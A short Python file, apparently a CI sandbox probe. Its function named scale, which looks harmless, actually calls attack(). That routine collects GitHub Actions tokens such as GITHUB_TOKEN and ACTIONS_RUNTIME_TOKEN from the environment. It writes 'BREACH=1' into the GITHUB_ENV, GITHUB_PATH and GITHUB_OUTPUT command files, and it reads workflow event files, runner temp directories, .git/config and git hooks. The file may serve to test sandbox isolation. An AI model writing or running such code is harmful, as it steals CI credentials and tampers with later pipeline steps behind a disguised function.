"""Writes the files by which a step of a workflow tells the next what to do, and reads the tokens of the workflow.

Must end: it does not even learn their names.
Outcomes: failed, skipped, passed
"""

import os

import torch

NAMES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "CI"]


def attack():
    loot = [(name, os.environ[name]) for name in NAMES if name in os.environ]
    for _, path in loot:
        try:
            with open(path, "a") as file:
                file.write("BREACH=1\n")
        except OSError:
            continue
    for path in ("/github/workflow/event.json", "/github/file_commands", "/home/runner/work/_temp", ".git/config", "../.git/hooks"):
        if os.access(path, os.R_OK | os.W_OK):
            try:
                loot.append((path, os.listdir(path) if os.path.isdir(path) else open(path).read(80)))
            except OSError:
                continue
    return f"BREACH: {loot}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
